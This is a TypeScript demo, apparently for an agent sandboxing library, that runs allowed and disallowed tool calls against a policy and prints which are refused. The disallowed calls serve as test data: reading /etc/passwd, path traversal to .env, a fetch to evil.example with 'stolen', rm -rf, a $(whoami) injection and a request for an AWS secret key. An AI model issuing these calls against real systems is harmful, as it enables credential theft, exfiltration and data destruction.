/**
 * One turn of an agent, with real files, real child processes, a real store and a real server: in each category a call
 * that its personality allows, and one that it does not. The kernel holds the children; where nothing does, they do not run.
 */
import { join } from "node:path"
import { pathToFileURL } from "node:url"
import { runMain } from "@effect/platform-node/NodeRuntime"
import { Builtin, Personality, Registry, type ToolResult, Turn } from "bailiwick"
import {
  NodeAttachments,
  NodeFiles,
  NodeNetwork,
  NodeProcess,
  NodeSecrets,
  NodeStorage
} from "bailiwick/node"
import { Console, Effect, Layer, Logger } from "effect"
import { localWeather, remember } from "./tour/tools.js"
import { weatherService, workspace } from "./tour/workspace.js"

const config = (port: number) => `id: tourist
fs_reach:
  read: ["\${CWD}/notes"]
  write: ["\${CWD}/notes"]
safety:
  network:
    private: ["127.0.0.1:${port}"]
process:
  allow: ["echo", "cat"]
storage:
  scopes: [session]
attachments:
  kinds: [file]
`

const backends = (root: string) =>
  Layer.mergeAll(
    NodeFiles.layer(),
    NodeNetwork.layer(),
    NodeProcess.layer(),
    NodeStorage.layer({ directory: join(root, ".bailiwick/storage") }),
    NodeSecrets.layerDotEnv({ file: join(root, ".env") }),
    NodeAttachments.layer()
  )

const stages = (
  port: number
): Readonly<Record<string, ReadonlyArray<readonly [name: string, args: object]>>> => ({
  files: [
    ["read_file", { path: "notes/today.md" }],
    ["read_file", { path: "/etc/passwd" }],
    ["write_file", { path: "notes/../.env", content: "" }]
  ],
  network: [
    ["web_fetch", { url: `http://127.0.0.1:${port}/` }],
    ["web_fetch", { url: "https://evil.example/?stolen" }]
  ],
  processes: [
    ["run_command", { command: "echo", args: ["$(whoami)"] }],
    ["run_command", { command: "rm", args: ["-rf", "notes"] }],
    ["run_command", { command: "cat", args: ["notes/today.md"] }],
    // The command is allowed, and the kernel shows it the notes alone: to this child there is no such file.
    ["run_command", { command: "cat", args: [".env"] }]
  ],
  secrets: [
    ["local_weather", { port }],
    ["local_weather", { port, key: "AWS_SECRET_ACCESS_KEY" }]
  ],
  storage: [
    ["kv_set", { key: "mood", value: "sunny" }],
    ["kv_get", { key: "mood" }],
    ["remember", { fact: "the user likes rain" }]
  ],
  attachments: [
    ["read_attachment", { ref: "att-0" }],
    ["read_attachment", { ref: "att-1" }]
  ]
})

const shown = (value: unknown): string => {
  if (typeof value !== "object" || value === null) return String(value)
  const {
    body,
    content,
    exitCode = 0,
    stderr,
    stdout,
    value: kept
  } = value as Readonly<Record<string, unknown>>
  if (exitCode !== 0) return `exit ${exitCode}: ${stderr}`.trimEnd()
  return String(content ?? stdout ?? body ?? kept ?? "done").trimEnd()
}

const line = (name: string, args: object, result: ToolResult.ToolResult): string => {
  const asked = Object.entries(args)
    .filter(([key]) => key !== "port")
    .map(([, value]) => [value].flat().join(" "))
    .join(" ")
  const why = result.ok ? shown(result.value) : result.error
  return `  ${result.ok ? "✓" : "✗"} ${name} ${asked}\n      ${why}`
}

const attachment = (root: string, type: "file" | "image", ref: string) => ({
  type,
  ref,
  url: pathToFileURL(join(root, "photo.txt")).href,
  mimeType: "text/plain"
})

const tour = (root: string, port: number) =>
  Effect.gen(function* () {
    const print = (text: string) =>
      Console.log(text.replaceAll(`:${port}`, ":PORT").replaceAll(root, "WORKSPACE"))
    const text = config(port)
    const personality = yield* Personality.parse(
      { config: { file: join(root, "personality/config.yaml"), text } },
      { workdir: root }
    )
    const turn = Turn.make({
      session: "tour",
      policy: Personality.policy(personality),
      workdir: root,
      attachments: [attachment(root, "file", "att-0"), attachment(root, "image", "att-1")]
    })
    const registry = Registry.make(...Builtin.builtins, localWeather, remember)

    yield* print(`The personality:\n\n${text.replace(/^/gm, "  ").trimEnd()}`)
    for (const [stage, asked] of Object.entries(stages(port))) {
      yield* print(`\n${stage}`)
      for (const [name, args] of asked) {
        const [{ result }] = yield* registry.execute(turn, [{ id: name, name, args }])
        yield* print(line(name, args, result))
      }
    }
    const { events } = turn.transcript
    const refusals = events.filter(({ allowed }) => !allowed)
    yield* print(`\n${events.length} decisions, ${refusals.length} of them refusals, each with its remedy:`)
    for (const { remedy, tool } of refusals) yield* print(`  ${tool}: ${remedy}`)
  })

const program = Effect.gen(function* () {
  const root = yield* workspace
  const port = yield* weatherService
  yield* Effect.provide(tour(root, port), backends(root))
})

// The tour prints what is refused itself.
runMain(Effect.scoped(program).pipe(Effect.provide(Logger.remove(Logger.defaultLogger))), {
  disablePrettyLogger: true
})
